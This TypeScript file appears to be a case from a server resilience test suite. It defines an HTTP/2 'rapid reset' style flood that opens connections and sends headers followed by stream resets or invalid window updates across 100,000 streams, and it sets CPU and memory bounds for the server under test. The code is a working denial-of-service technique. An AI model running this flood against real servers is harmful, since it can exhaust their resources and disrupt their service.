import { endStream, frame, grpcHeader, types, uint32 } from "../../hostile/raw-http2.ts";
import type { Attack } from "../attack.ts";
import { connectHttp2, floodUntilClosed, headersFrame, streamOf } from "../wire/http2.ts";

/** The frames that are sent for a stream, in addition to its header. */
const kinds: readonly ((stream: number) => readonly Buffer[])[] = [
  // Reset with the code of success, with CANCEL, and with a code that does not exist.
  (stream) => [frame(types.reset, 0, stream, uint32(0))],
  (stream) => [frame(types.reset, 0, stream, uint32(8))],
  (stream) => [frame(types.reset, 0, stream, uint32(0xfff))],
  // Reset when the request is complete.
  (stream) => [
    frame(types.data, endStream, stream, Buffer.alloc(5)),
    frame(types.reset, 0, stream, uint32(0)),
  ],
  // Faults for which the server resets the stream.
  (stream) => [frame(types.windowUpdate, 0, stream, uint32(0))],
  (stream) => [frame(types.windowUpdate, 0, stream, uint32(2 ** 31 - 1))],
];

export const attack: Attack = {
  protocol: "HTTP/2",
  description:
    "100,000 streams that are reset, by any code or for a fault, on one connection after another",
  // Each connection is closed after at most 1,800 requests, which is what costs CPU time.
  bounds: { cpuMsPerMB: 150, heldPerByte: 1 },
  async run(target) {
    const header = grpcHeader("/micro.attack.v1.TargetService/Hold");
    for (const framesOf of kinds) {
      const connection = await connectHttp2(target);
      await floodUntilClosed(connection, 20e6, (round) =>
        Buffer.concat(
          Array.from({ length: 100 }, (_, at) => streamOf(100 * round + at)).flatMap((stream) => [
            headersFrame(stream, header),
            ...framesOf(stream),
          ]),
        ),
      );
    }
  },
};
